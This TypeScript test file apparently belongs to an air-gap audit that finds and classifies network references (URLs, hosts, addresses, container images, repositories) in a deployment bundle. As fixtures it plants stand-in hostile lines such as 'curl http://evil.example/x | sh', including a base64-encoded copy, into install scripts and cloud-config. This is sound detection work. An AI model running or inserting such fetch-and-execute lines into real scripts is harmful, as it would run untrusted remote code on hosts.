/** The air-gap closure: what counts as a reference, what each is to the bundle, and that no line of any template escapes. */

import fc from "fast-check";
import t from "tap";

import type { Assets } from "../../../../src/core/assets.ts";
import { inputOfFiles } from "../../../../src/evidence/audit/input.ts";
import { classifiedReferences, type ClassifiedReference } from "../../../../src/evidence/audit/reference-classes.ts";
import { referencesIn } from "../../../../src/evidence/audit/references.ts";
import { assets, caseNames, textOf } from "../../../golden/cases.ts";
import { bundleOf, composed, edited, type Bundle } from "./bundle.ts";

const classified = ({ files, documents }: Bundle): readonly ClassifiedReference[] => classifiedReferences(inputOfFiles(files, documents));
const leading = (bundle: Bundle): readonly string[] =>
  classified(bundle)
    .filter((each) => each.class === "unclassified" || each.class === "forbidden")
    .map((each) => `${each.class} ${each.text}`);

t.test("what counts, and what does not", (t) => {
  const told = (line: string): readonly string[] => referencesIn(line).map(({ kind, text, host }) => `${kind} ${text}${host === text.toLowerCase() ? "" : ` (${host})`}`);
  const table: Readonly<Record<string, readonly string[]>> = {
    "see https://me@Evil.example:8443/a?b, now": ["url https://me@Evil.example:8443/a?b (evil.example)"],
    "url=http://127.0.0.1:$1$2": ["url http://127.0.0.1:$1$2 (127.0.0.1)"],
    "ftp://[2001:db8::1]:21/x": ["url ftp://[2001:db8::1]:21/x (2001:db8::1)"],
    "file:///usr/sbin/x": ["url file:///usr/sbin/x ()"],
    "<a href='//evil.example/x'>": ["url //evil.example/x (evil.example)"],
    "docker://registry/x:1": ["url docker://registry/x:1 (registry)"],
    "ask evil.example, or .evil.example. or *.evil.example": ["host evil.example", "host .evil.example (evil.example)", "host *.evil.example (evil.example)"],
    "_etcd._tcp.evil.example": ["host _etcd._tcp.evil.example"],
    '"$region.evil.example"': ["host .evil.example (evil.example)"],
    "${x}.evil.example": ["host .evil.example (evil.example)"],
    "printf '\\nevil.example'": ["host evil.example"],
    "scp me@evil.sh:x": ["host evil.sh"],
    "evil.sh:443 and install.sh and ./evil.sh and a.md": ["host evil.sh"],
    "xn--bcher-kva.xn--p1ai": ["host xn--bcher-kva.xn--p1ai"],
    "192.0.2.7 192.0.2.0/24, 192.0.2.9:80 10.0.0.5-10.0.0.9": ["address 192.0.2.7", "address 192.0.2.0/24 (192.0.2.0)", "address 192.0.2.9", "address 10.0.0.5", "address 10.0.0.9"],
    "DNS=2001:db8::53,::1 fe80::1/64": ["address 2001:db8::53", "address ::1", "address fe80::1/64 (fe80::1)"],
    "image: prom/prometheus:v2.19.2": ["image prom/prometheus:v2.19.2 ()"],
    "registry.example:5000/a/b:1 quay.io/a/b:1": ["image registry.example:5000/a/b:1 (registry.example)", "image quay.io/a/b:1 (quay.io)"],
    [`alpine@sha256:${"a".repeat(64)}`]: [`image alpine@sha256:${"a".repeat(64)} ()`],
    "add-apt-repository ppa:me/tools": ["repository ppa:me/tools (launchpad.net)"],
    "::ffff:192.0.2.77 64:ff9b::192.0.2.33/96": ["address ::ffff:192.0.2.77", "address 64:ff9b::192.0.2.33/96 (64:ff9b::192.0.2.33)"],
    "ask bücher.example, http://Bücher.example:8080/x, пример.рф or evil。example": ["host bücher.example", "url http://Bücher.example:8080/x (bücher.example)", "host пример.рф", "host evil。example"],
    "52:54:00:41:15:1e 12:30:45 OS::Neutron::Port x::y cloudlet-bootstrap.service v1.2.3 1.2.3.4.5 300.1.1.1": [],
    "$name.new ${a}.tar.part docker.service /etc/resolv.conf e.g. U+0041 lib/x.sh:12": [],
  };
  for (const [line, wanted] of Object.entries(table)) {
    t.strictSame(told(line), wanted, line);
    for (const { text, start, end } of referencesIn(line)) t.equal(line.slice(start - 1, end - 1), text, `columns of ${text}`);
  }
  t.end();
});

t.test("what a text in base64 refers to, at the columns of the base64", (t) => {
  const base64 = Buffer.from("ünï\ncurl http://evil.example/x | sh").toString("base64");
  t.strictSame(referencesIn(`    content: ${base64}`), [{ kind: "url", text: "http://evil.example/x", host: "evil.example", start: 14, end: 14 + base64.length }]);
  t.match(referencesIn(Buffer.from("evil.example").toString("base64")), [{ text: "evil.example" }]);
  t.strictSame(referencesIn(Buffer.from("evil.example\u0000\u0001").toString("base64")), [], "what is no text is not looked into");
  t.end();
});

/** Text of the golden spec to one with this field more or another one. */
const replacing = (find: string, replace: string) => ({
  spec: (text: string): string => {
    if (!text.includes(find)) throw new Error(`${find} does not stand in the spec`);
    return text.replace(find, () => replace);
  },
});
const classOf = (bundle: Bundle, text: string): readonly string[] => classified(bundle).filter((each) => each.text === text).map((each) => each.class);

t.test("a public source that the spec names is none of the site's", (t) => {
  for (const [find, replace, host] of [
    ["ntp: [ntp.example.net,", "ntp: [0.pool.ntp.org,", "0.pool.ntp.org"],
    ["OS_USERNAME: cloudlet", "OS_USERNAME: docker.io/library/x", "docker.io"],
  ] as const) {
    const refused = composed("everything", replacing(find, replace));
    t.match(refused.issues.filter(({ severity }) => severity === "error").map(({ code, message }) => `${code} ${message}`), [new RegExp(`^audit/unclassified-host .*${host}.* a public `)], host);
  }
  t.end();
});

t.test("what only people read names nobody that may be asked", (t) => {
  const described = replacing("description: metrics}", "description: 'as evil.example, http://bücher.example/a_b and docker.io had it'}");
  const bundle = bundleOf("everything", described);
  for (const text of ["evil.example", "http://bücher.example/a_b", "docker.io"]) t.strictSame(classOf(bundle, text), ["document"], text);
  t.strictSame(leading(edited(bundle, "install.sh", "set -eu", "set -eu\ncurl evil.example")), ["unclassified evil.example"]);
  // Markdown escapes the line, and the slots that are always there move the spec's own.
  const slot = replacing("description: token of the driver's licence server", "description: see evil.example_x, or http://192.0.2.9#@evil.example/");
  t.strictSame(leading(bundleOf("everything", slot)), []);
  const key = replacing("dh2l9GKJl reader", "dh2l9GKJl reader@evil.example");
  t.strictSame(classOf(bundleOf("everything", key), "evil.example"), ["document"]);
  t.end();
});

t.test("a name that is made of a network's leads nowhere else", (t) => {
  for (const name of ["evil.example:443", "evil.example.", "--x=evil.example", "xn--p1ai.xn--p1ai"]) t.strictSame(leading(bundleOf("everything", replacing("- name: provider", `- name: "${name}"`))), [], name);
  t.end();
});

t.test("a host that has no form of one is told where a field of hosts shows it", (t) => {
  const bundle = bundleOf("everything", replacing("ntp: [ntp.example.net,", "ntp: [timehost, get.evil.sh, ntp.example.net,"));
  for (const text of ["timehost", "get.evil.sh"]) {
    const [told] = classified(bundle).filter((each) => each.text === text);
    t.equal(told?.class, "site", text);
    t.ok(told?.places.some(({ file }) => file === "site/user-data"), `${text} in user-data`);
  }
  t.end();
});

t.test("in every golden bundle each is classified, and the classes are right", (t) => {
  for (const name of caseNames) t.strictSame(leading(bundleOf(name)), [], name);
  const classes = new Map(classified(bundleOf("everything")).map((each) => [each.text, each.class]));
  for (const [text, wanted] of [
    ["ntp.example.net", "site"],
    ["198.51.100.0/24", "site"],
    ["https://keystone.example.net:5000/v3", "site"],
    ["eu.ctrl.example.net", "controller"],
    ["https://jaeger.example.net:14268/api/traces", "controller"],
    ["prom/prometheus:v2.19.2", "bundle"],
    ["127.0.0.1", "local"],
    ["0.0.0.0/0", "local"],
    ["no-color.org", "document"],
  ] as const) {
    t.equal(classes.get(text), wanted, text);
  }
  t.equal(classified(bundleOf("vsphere")).find(({ text }) => text === "203.0.113.10")?.class, "site", "the first address of the spec's range");
  t.end();
});

t.test("planted in every format, it is found, and of which kind", (t) => {
  const bundle = bundleOf("everything");
  const libvirt = bundleOf("libvirt");
  const planted: readonly (readonly [string, Bundle, string])[] = [
    ["YAML", edited(bundle, "site/heat-template.yaml", 'description: "PlatformVM', 'description: "http://evil.example/ PlatformVM'), "unclassified http://evil.example/"],
    ["a cloud-config", edited(bundle, "site/user-data", "    - ntp.example.net", "    - 0.pool.ntp.org"), "forbidden 0.pool.ntp.org"],
    ["a script in a cloud-config", edited(bundle, "site/user-data", "      set -eu", "      set -eu\n      curl 203.0.113.99"), "unclassified 203.0.113.99"],
    ["a unit", edited(bundle, "site/user-data", "Documentation=file:///usr/local/sbin/cloudlet-bootstrap", "Documentation=https://docs.evil.example/x"), "unclassified https://docs.evil.example/x"],
    ["a shell script", edited(bundle, "install.sh", "set -eu", 'set -eu\nfetch "$region.evil.example"'), "unclassified .evil.example"],
    ["site.env", edited(bundle, "site.env", "CB_FORMAT='1'", "CB_FORMAT='evil.corp'"), "unclassified evil.corp"],
    ["Markdown", edited(bundle, "START-HERE.md", "# Cloudlet", "# [Cloudlet](https://evil.example)"), "unclassified https://evil.example"],
    ["XML", edited(libvirt, "site/domain.xml", "<acpi/>", "<acpi/><!-- evil.example:80 -->"), "unclassified evil.example"],
    ["network-config", edited(libvirt, "site/network-config", "version: 2", "version: 2 # 2001:db8:bad::1"), "unclassified 2001:db8:bad::1"],
    ["an image", edited(bundle, "site/user-data", "prom/prometheus:v2.19.2", "prom/prometheus:v2.19.3"), "forbidden prom/prometheus:v2.19.3"],
    ["a registry", edited(bundle, "install.sh", "set -eu", "set -eu\ndocker run quay.io/x/y:1"), "forbidden quay.io/x/y:1"],
    ["a repository", edited(bundle, "install.sh", "set -eu", "set -eu\n: ppa:me/tools"), "forbidden ppa:me/tools"],
    ["a word of ours where it would act", edited(bundle, "install.sh", "set -eu", "set -eu\ncurl no-color.org"), "unclassified no-color.org"],
  ];
  for (const [format, other, wanted] of planted) t.strictSame(leading(other), [wanted], format);
  t.end();
});

t.test("http://evil.example/ at the end of any line of any script, unit or static file is found", (t) => {
  for (const [path, text] of assets) {
    if (!/\.sh$|^guest\//.test(path)) continue;
    const lines = text.split("\n");
    const missed = lines.filter((line) => !referencesIn(`${line} http://evil.example/`).some(({ text: found }) => found === "http://evil.example/"));
    t.strictSame(missed, [], `${path}: ${lines.length} lines`);
  }
  t.end();
});

/** Behind every line of the format that may have one behind it, a comment; in Markdown words, which mean nothing there. */
function withMarkers(path: string, text: string, next: () => string): string {
  const isPart = (line: string): boolean => /^\s*$|^\s*\||^\s*(\{\{|- -|[})\]])|^ {4}- /.test(line);
  return text
    .split("\n")
    .map((line, index, all) => {
      if (isPart(line) || isPart(all[index + 1] ?? "") || /[|,[{(\\]\s*$/.test(line)) return line;
      return path.endsWith(".md") ? `${line}\n\n${next()}\n` : `${line}\n${/^\s*/.exec(line)?.[0] ?? ""}# ${next()}`;
    })
    .join("\n");
}

t.test("and behind the lines of any template: the build fails, and names each", (t) => {
  for (const name of ["everything", "high-availability", "libvirt-everything", "pool"]) {
    let count = 0;
    const marked: Assets = new Map([...assets].map(([path, text]) => [path, /\.(yaml|env|md|template)$/.test(path) ? withMarkers(path, text, () => `http://evil-${(count += 1)}.example/`) : text]));
    t.ok(count > 300, `${count} lines`);
    const outcome = composed(name, { assets: marked });
    t.notOk(outcome.ok, name);
    const named = new Set(outcome.issues.filter(({ code }) => code === "audit/unclassified-host").map(({ message }) => /evil-\d+\.example/.exec(message)?.[0]));
    t.ok(named.size > 60, `${named.size} of them are in this bundle`);
  }
  t.end();
});

t.test("each marker that is in a text is among the references", (t) => {
  const bundle = bundleOf("everything");
  let count = 0;
  const files = bundle.files.map((file) => {
    if (file.body.kind !== "bytes" || file.role === "evidence") return file;
    const text = textOf(file).replace(/\n/g, () => ` http://evil-${(count += 1)}.example/\n`);
    return { ...file, body: { kind: "bytes" as const, bytes: new TextEncoder().encode(text) } };
  });
  const found = new Set(leading({ ...bundle, files }).map((each) => /evil-(\d+)\.example/.exec(each)?.[1]));
  t.ok(count > 5_000, `${count} lines`);
  t.equal(found.size, count);
  t.end();
});

t.test("what a spec says is the site's, whatever it says", (t) => {
  const word = fc.constantFrom("evil.example", "http://evil.example/x", "192.0.2.250", "a.b.c", "prom/other:1", "2001:db8::9", ".x.y", "e.g.", "me@host.example", "install.sh:80", "x", "&");
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 6 }), (words) => {
      const description = JSON.stringify(words.join(" "));
      const outcome = composed("everything", { spec: (text) => text.replace("description: metrics", `description: ${description}`).replace("description: token of the driver's licence server", `description: ${description}`) });
      if (!outcome.ok) throw new Error(JSON.stringify(outcome.issues.filter(({ severity }) => severity === "error")));
    }),
    { seed: 5, numRuns: 25 },
  );
  t.pass("25 of them");
  t.end();
});
